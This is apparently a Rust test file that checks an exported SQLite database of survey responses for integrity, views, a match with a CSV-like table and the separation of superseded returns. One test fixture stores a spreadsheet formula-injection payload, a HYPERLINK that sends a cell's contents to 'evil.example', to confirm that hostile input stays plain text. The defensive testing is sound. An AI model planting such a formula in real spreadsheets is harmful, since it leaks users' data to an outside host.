//! The database: its keys hold, every view answers, and what counts is told from what does not.

use rusqlite::types::Value as SqlValue;
use rusqlite::{Connection, OpenFlags};

use crate::data::{Data, long_text};

fn open(data: &Data) -> Connection {
    let path = data.out().join("export/responses.sqlite");
    Connection::open_with_flags(path, OpenFlags::SQLITE_OPEN_READ_ONLY).unwrap()
}

fn one<T: rusqlite::types::FromSql>(connection: &Connection, query: &str) -> T {
    connection.query_row(query, [], |row| row.get(0)).unwrap_or_else(|error| panic!("{query}: {error}"))
}

#[test]
fn the_database_is_sound() {
    let data = Data::exported();
    let connection = open(data);
    assert_eq!(one::<String>(&connection, "PRAGMA integrity_check"), "ok");
    assert!(connection.query_row("PRAGMA foreign_key_check", [], |_| Ok(())).is_err());
    let tables = "SELECT count(*) FROM sqlite_master WHERE type = 'table' AND sql NOT LIKE '%STRICT'";
    assert_eq!(one::<i64>(&connection, tables), 0);
    let mut names = connection.prepare("SELECT name FROM sqlite_master WHERE type = 'view'").unwrap();
    let names: Vec<String> = names.query_map([], |row| row.get(0)).unwrap().map(Result::unwrap).collect();
    assert!(names.len() >= 10, "{names:?}");
    for name in names {
        let mut statement = connection.prepare(&format!("SELECT * FROM \"{name}\"")).unwrap();
        let mut rows = statement.query([]).unwrap();
        let mut count = 0;
        while rows.next().unwrap_or_else(|error| panic!("{name}: {error}")).is_some() {
            count += 1;
        }
        // Nobody decided here; where somebody did is tried elsewhere.
        assert_eq!(count == 0, name == "decided_answers", "{name} is empty");
    }
}

#[test]
fn the_wide_view_says_what_the_wide_table_says() {
    let data = Data::exported();
    let connection = open(data);
    let table = crate::delimited::Table::read(data, "responses-un-msq-2020");
    let mut statement = connection.prepare("SELECT * FROM responses_un_msq_2020").unwrap();
    let columns: Vec<String> = statement.column_names().map(str::to_owned).collect();
    assert_eq!(columns, table.columns);
    let mut rows = statement.query([]).unwrap();
    for expected in &table.rows {
        let row = rows.next().unwrap().expect("a row");
        for (position, column) in columns.iter().enumerate() {
            let cell = match row.get::<_, SqlValue>(position).unwrap() {
                SqlValue::Null => String::new(),
                SqlValue::Integer(number) => number.to_string(),
                SqlValue::Real(number) => number.to_string(),
                SqlValue::Text(text) => text,
                SqlValue::Blob(_) => panic!("{column} is a blob"),
            };
            // Lists are JSON here; a text that looks like a formula needs no defusing.
            if !cell.starts_with('[') {
                assert!(expected[column] == cell || expected[column] == format!("'{cell}"), "{column}: {cell}");
            }
        }
    }
    assert!(rows.next().unwrap().is_none());
}

#[test]
fn returns_that_no_longer_count_are_kept_apart() {
    let data = Data::exported();
    let connection = open(data);
    let (earlier, later) = (data.id("all-ticks-given"), data.id("answers-in-french"));
    let answers =
        |record: &str| one::<i64>(&connection, &format!("SELECT count(*) FROM answers WHERE record = '{record}'"));
    assert_eq!((answers(earlier), answers(later)), (68, 68));
    let shown = |record: &str| {
        one::<i64>(&connection, &format!("SELECT count(*) FROM answers_with_questions WHERE record = '{record}'"))
    };
    assert_eq!((shown(earlier), shown(later)), (0, 68));
    assert_eq!(one::<i64>(&connection, "SELECT count(*) FROM failures"), 2);
    assert_eq!(one::<i64>(&connection, "SELECT count(*) FROM missing"), 2);
    assert_eq!(one::<i64>(&connection, "SELECT count(*) FROM doubtful_cases"), 3);
    assert_eq!(one::<String>(&connection, "SELECT value_before FROM changes WHERE field = 'q14.text'"), "\"=1+1\"");
}

#[test]
fn hostile_texts_are_only_texts() {
    let data = Data::exported();
    let connection = open(data);
    let value = |field: &str| {
        let record = data.id("answers-in-french");
        one::<String>(
            &connection,
            &format!("SELECT value FROM answers WHERE record = '{record}' AND field = '{field}'"),
        )
    };
    assert_eq!(value("q4.name"), "=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")");
    assert_eq!(value("q9.text"), "nul \u{fffd} bell \u{7} not _x0041_ a character \u{fffe}");
    assert_eq!(value("q15.text"), long_text());
    let ticks = "SELECT checked FROM ticks_by_option WHERE field = 'q8.options' AND option = 'sdgs'";
    assert_eq!(one::<i64>(&connection, ticks), 1);
    let queue = "SELECT count(*) FROM review_queue WHERE field = 'q17.percentage' AND flags = 'several_candidates'";
    assert_eq!(one::<i64>(&connection, queue), 1);
}
